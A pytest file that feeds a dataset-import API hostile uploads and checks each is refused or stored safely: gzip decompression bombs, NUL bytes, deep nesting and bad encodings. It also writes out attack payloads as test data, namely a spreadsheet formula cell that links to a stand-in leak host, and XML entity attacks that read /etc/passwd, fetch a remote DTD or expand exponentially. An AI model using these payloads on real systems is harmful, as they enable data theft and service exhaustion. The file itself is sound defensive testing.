"""The hostile-input corpus: files a careless or hostile client may upload, each generated here
(no committed data), each with its expected outcome, asserted on both databases and in both
import modes (inline, and as a background run). A refused file changes nothing: the job keeps
exactly the items it had. An accepted one stores exactly what the file says."""

from __future__ import annotations

import gzip
import io
import json
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import KW_ONLY, dataclass, field
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from app.core.db import Database
from app.models import Item
from tests.jobs.factories import create_job, jsonl, reviews
from tests.jobs.test_dataset_import import count_items
from tests.jobs.uploads import HOWS, How, import_client, import_file
from tests.support import Account, assert_problem
from tests.workers.background import wait_until

CSV, JSONL, JSON = "text/csv", "application/x-ndjson", "application/json"
DECOMPRESSED_LIMIT = 1_000_000  # the app under test is configured with this limit
SKIP = "skip-invalid"
BASELINE = reviews(2)  # every job holds these before the hostile upload


def gzipped(chunk: bytes, times: int) -> bytes:
    """`chunk` repeated `times` times, gzip-compressed as it goes (never held expanded)."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9) as compressed:
        for _ in range(times):
            compressed.write(chunk)
    return out.getvalue()


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def good(*texts: str) -> bytes:
    return jsonl([{"text": t} for t in texts])


@dataclass(frozen=True)
class Case:
    name: str
    body: Callable[[], bytes]
    content_type: str = JSONL
    mode: str = "all-or-nothing"
    _: KW_ONLY
    refused: tuple[int, str] | None = None  # status and problem type
    errors: list[tuple[int, str | None]] = field(default_factory=list)  # (line, pointer)
    stored: list[tuple[str | None, dict[str, Any]]] | None = None  # what an accepted file adds


HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'
CASES = [
    # Encodings: UTF-8 with or without a byte order mark; anything else is refused.
    Case(
        "utf-8 BOM, csv",
        lambda: b"\xef\xbb\xbfexternal_id,text\nb1,caf\xc3\xa9\n",
        CSV,
        stored=[("b1", {"text": "café"})],
    ),
    Case(
        "utf-8 BOM, jsonl",
        lambda: b'\xef\xbb\xbf{"external_id": "b1", "text": "caf\xc3\xa9"}\n',
        stored=[("b1", {"text": "café"})],
    ),
    Case(
        "utf-8 BOM, json array",
        lambda: b'\xef\xbb\xbf[{"external_id": "b1", "text": "x"}]',
        JSON,
        stored=[("b1", {"text": "x"})],
    ),
    Case(
        "latin-1, csv",
        lambda: "text\ncafé\n".encode("latin-1"),
        CSV,
        refused=(422, "unreadable-dataset"),
    ),
    Case(
        "latin-1, jsonl",
        lambda: '{"text": "café"}\n'.encode("latin-1") + good("fine"),
        refused=(422, "validation-failed"),
        errors=[(1, None)],
    ),
    Case(
        "utf-16, csv",
        lambda: "text\nhello\n".encode("utf-16"),
        CSV,
        refused=(422, "unreadable-dataset"),
    ),
    Case(
        "utf-16, jsonl",
        lambda: '{"text": "hello"}\n'.encode("utf-16"),
        refused=(422, "unreadable-dataset"),
    ),
    # Structure.
    Case(
        "ragged csv rows",
        lambda: b"external_id,text\na,fine\nb,too,many\nc\n",
        CSV,
        refused=(422, "validation-failed"),
        errors=[(3, None), (4, None)],
    ),
    Case(
        "ragged csv rows, skip-invalid",
        lambda: b"external_id,text\na,fine\nb,too,many\nc\n",
        CSV,
        SKIP,
        errors=[(3, None), (4, None)],
        stored=[("a", {"text": "fine"})],
    ),
    Case(
        "a 2 MB line, jsonl",
        lambda: good("x" * 2_000_000, "fine"),
        refused=(422, "validation-failed"),
        errors=[(1, None)],
    ),
    Case(
        "a 2 MB line, jsonl, skip-invalid",
        lambda: good("x" * 2_000_000, "fine"),
        mode=SKIP,
        errors=[(1, None)],
        stored=[(None, {"text": "fine"})],
    ),
    Case(
        "a 2 MB line, csv",
        lambda: b"text\n" + b"x" * 2_000_000 + b"\n",
        CSV,
        refused=(422, "unreadable-dataset"),
    ),
    Case(
        "a 5 MB element, json array",
        lambda: json.dumps([{"text": "x" * 5_000_000}]).encode(),
        JSON,
        refused=(422, "unreadable-dataset"),
    ),
    # Decompression bombs and empty work.
    Case(
        "gzip of 200 MB of blank lines",
        lambda: gzipped(b"\n" * 1_000_000, 200),
        refused=(422, "too-many-unusable-lines"),
    ),
    Case(
        "gzip expanding past the limit",
        lambda: gzipped(good("y" * 50_000), 2 * DECOMPRESSED_LIMIT // 50_000),
        refused=(413, "decompressed-too-large"),
    ),
    Case(
        "blank lines before a row",
        lambda: b"\n" * 1500 + good("late"),
        refused=(422, "too-many-unusable-lines"),
    ),
    Case(
        "csv rows of empty cells",
        lambda: b"text,other\n" + b",\n" * 1500 + b"late,row\n",
        CSV,
        SKIP,
        refused=(422, "too-many-unusable-lines"),
    ),
    Case(
        "unparseable lines, skip-invalid",
        lambda: b"not json\n" * 1500 + good("late"),
        mode=SKIP,
        refused=(422, "too-many-unusable-lines"),
    ),
    Case(
        "truncated gzip",
        lambda: gzip.compress(good("a", "b"))[:-12],
        refused=(422, "unreadable-dataset"),
    ),
    Case("empty file", lambda: b"", refused=(422, "empty-dataset")),
    Case("blank lines only", lambda: b"\n\n  \n", refused=(422, "empty-dataset")),
    Case("empty json array", lambda: b"[ ]", JSON, refused=(422, "empty-dataset")),
    Case("csv header alone", lambda: b"external_id,text\n", CSV, refused=(422, "empty-dataset")),
    # Formula cells are data on the way in (CSV export neutralises them on the way out).
    Case(
        "formula cells",
        lambda: (
            "text,note\n"
            + '"=HYPERLINK(""http://evil.example/?leak"",""click me"")",+1\n'
            + "-2+3,@SUM(A1)\n"
        ).encode(),
        CSV,
        stored=[
            (None, {"text": HYPERLINK, "note": "+1"}),
            (None, {"text": "-2+3", "note": "@SUM(A1)"}),
        ],
    ),
    # Strings neither database can store: refused the same on both, with a pointer.
    Case(
        "NUL in a jsonl value",
        lambda: b'{"text": "a\\u0000b"}\n' + good("fine"),
        refused=(422, "validation-failed"),
        errors=[(1, "#/text")],
    ),
    Case(
        "NUL in a jsonl value, skip-invalid",
        lambda: b'{"text": "a\\u0000b"}\n' + good("fine"),
        mode=SKIP,
        errors=[(1, "#/text")],
        stored=[(None, {"text": "fine"})],
    ),
    Case(
        "NUL byte in a csv cell",
        lambda: b"text\nfine\na\x00b\n",
        CSV,
        refused=(422, "validation-failed"),
        errors=[(3, "#/text")],
    ),
    Case(
        "NUL in a key",
        lambda: b'{"text": "x", "a\\u0000b": 1}\n',
        refused=(422, "validation-failed"),
        errors=[(1, "#/a\x00b")],
    ),
    Case(
        "NUL in a Label Studio task",
        lambda: b'[{"id": 7, "data": {"text": "\\u0000"}}]',
        JSON,
        refused=(422, "validation-failed"),
        errors=[(1, "#/data/text")],
    ),
    Case(
        "NUL in a csv gold answer",
        lambda: b'text,gold_answer\nfine,"{""sentiment"": ""positive\\u0000""}"\n',
        CSV,
        refused=(422, "validation-failed"),
        errors=[(2, "#/gold_answer/sentiment")],
    ),
    Case(
        "unpaired surrogate, jsonl",
        lambda: good("fine") + b'{"text": "\\ud800"}\n',
        refused=(422, "validation-failed"),
        errors=[(2, "#/text")],
    ),
    Case(
        "unpaired surrogate, json array, skip-invalid",
        lambda: b'[{"text": "fine"}, {"text": "x\\udc00"}]',
        JSON,
        SKIP,
        errors=[(2, "#/text")],
        stored=[(None, {"text": "fine"})],
    ),
    # Deep nesting: bounded, never a RecursionError.
    Case(
        "100,000 levels, jsonl",
        lambda: f'{{"text": "x", "meta": {nested(100_000)}}}\n'.encode() + good("fine"),
        refused=(422, "validation-failed"),
        errors=[(1, "#")],
    ),
    Case(
        "100,000 levels, jsonl, skip-invalid",
        lambda: f'{{"text": "x", "meta": {nested(100_000)}}}\n'.encode() + good("fine"),
        mode=SKIP,
        errors=[(1, "#")],
        stored=[(None, {"text": "fine"})],
    ),
    Case(
        "100 levels, jsonl",
        lambda: f'{{"text": "x", "meta": {nested(100)}}}\n'.encode(),
        refused=(422, "validation-failed"),
        errors=[(1, "#/meta" + "/0" * 63)],
    ),
    Case(
        "100,000 levels, json array",
        lambda: f'[{{"text": "fine"}}, {nested(100_000)}]'.encode(),
        JSON,
        refused=(422, "unreadable-dataset"),
        errors=[(2, "#/1")],
    ),
    Case(
        "50,000 levels in a csv gold answer",  # a CSV cell holds at most 128 KB
        lambda: f"text,gold_answer\nx,{nested(50_000)}\n".encode(),
        CSV,
        refused=(422, "validation-failed"),
        errors=[(2, "#/gold_answer")],
    ),
    # Numbers JSON has no room for (the standard parser would take them; nothing may change them).
    Case(
        "NaN, json array",
        lambda: b'[{"text": "x", "score": NaN}]',
        JSON,
        refused=(422, "validation-failed"),
        errors=[(1, None)],
    ),
    Case(
        "1e400, json array",
        lambda: b'[{"text": "x", "score": 1e400}]',
        JSON,
        refused=(422, "validation-failed"),
        errors=[(1, None)],
    ),
    Case(
        "a 24-digit integer, json array",
        lambda: b'[{"text": "x", "n": 123456789012345678901234}]',
        JSON,
        refused=(422, "validation-failed"),
        errors=[(1, "#/n")],
    ),
]


def staged_files() -> set[Path]:
    return set(Path(tempfile.gettempdir()).glob("tessera-import-*.staged"))


@pytest.fixture
def hostile(db: Database, tmp_path: Path) -> Iterator[TestClient]:
    before = staged_files()
    with import_client(db, tmp_path, max_decompressed_bytes=DECOMPRESSED_LIMIT) as client:
        yield client
        # However the import ended, its staged rows are gone, and so is a background upload
        # (a background run removes both just after it commits).
        uploads = tmp_path / "uploads"
        wait_until(
            lambda: staged_files() <= before and not any(uploads.glob("*")),
            what="the import's files to go",
        )


def added_items(db: Database, job_id: int) -> list[tuple[str | None, dict[str, Any]]]:
    baseline = [r["external_id"] for r in BASELINE]
    with db.read_session() as session:
        rows = session.execute(
            select(Item.external_id, Item.payload)
            .where(Item.job_id == job_id)
            .where(Item.external_id.is_(None) | Item.external_id.not_in(baseline))
            .order_by(Item.id)
        )
        return [(external_id, payload) for external_id, payload in rows]


@pytest.mark.parametrize("how", HOWS)
@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_upload(
    case: Case, how: How, hostile: TestClient, client_account: Account, db: Database
) -> None:
    job_id = create_job(hostile, client_account)
    assert import_file(hostile, client_account, job_id, jsonl(BASELINE), how="inline").status == 201

    outcome = import_file(
        hostile,
        client_account,
        job_id,
        case.body(),
        how=how,
        content_type=case.content_type,
        mode=case.mode,
    )

    if case.refused is not None:
        assert (outcome.status, outcome.slug) == case.refused, outcome.body
        assert count_items(db, job_id) == len(BASELINE)  # nothing of the file was kept
    else:
        assert outcome.status == 201, outcome.body
        assert added_items(db, job_id) == case.stored
        assert outcome.report["created"] == len(case.stored or [])
    reported = [(e["line"], e.get("pointer")) for e in outcome.body.get("errors", [])]
    assert reported[: len(case.errors)] == case.errors


# --- the Label Studio config path: XML from clients ---------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<View><Text name="text" value="$text"/>
<Choices name="c" toName="text"><Choice value="&lol4;"/></Choices></View>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE v [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<View><Text name="text" value="$text"/>
<Choices name="c" toName="text"><Choice value="&secret;"/></Choices></View>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE v [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd"> %remote;]>
<View><Text name="text" value="$text"/></View>"""


@pytest.mark.parametrize(
    "config",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
    ids=["entity expansion", "external entity", "external parameter entity"],
)
def test_label_studio_configs_with_entities_are_refused(
    config: str, client: TestClient, client_account: Account, db: Database
) -> None:
    from tests.jobs.factories import job_body

    response = client.post("/v1/jobs", json=job_body(config), headers=client_account.headers)
    body = assert_problem(response, 422, "validation-failed")
    assert "not allowed" in body["errors"][0]["detail"]
    assert client.get("/v1/jobs", headers=client_account.headers).json()["items"] == []


def test_the_decompressed_limit_is_four_uploads_unless_set() -> None:
    from app.core.settings import Settings

    derived = Settings(max_upload_bytes=10_000, _env_file=None)  # type: ignore[call-arg]
    assert derived.decompressed_bytes_limit == 40_000
    chosen = Settings(max_upload_bytes=10_000, max_decompressed_bytes=12_345, _env_file=None)  # type: ignore[call-arg]
    assert chosen.decompressed_bytes_limit == 12_345
